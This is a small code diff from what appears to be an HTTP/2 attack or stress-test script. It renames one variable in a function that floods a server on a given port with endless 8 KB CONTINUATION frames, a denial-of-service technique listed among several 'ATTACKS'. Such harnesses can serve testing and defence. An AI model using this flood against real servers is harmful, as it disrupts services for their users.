@@ -121,9 +121,9 @@ def header_flood(port, stop):
 
 def continuation_flood(port, stop):
     # An incomplete header block of 8 KB frames, which never ends.
-    piece = b"\x00\x07x-flood\x7f\x81\x3e" + b"a" * 8000
+    chunk = b"\x00\x07x-flood\x7f\x81\x3e" + b"a" * 8000
     start = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 1, 1, request(b"/"))
-    flood(port, stop, start, lambda _: frame(CONTINUATION, 0, 1, piece), 0.002)
+    flood(port, stop, start, lambda _: frame(CONTINUATION, 0, 1, chunk), 0.002)
 
 
 ATTACKS = {
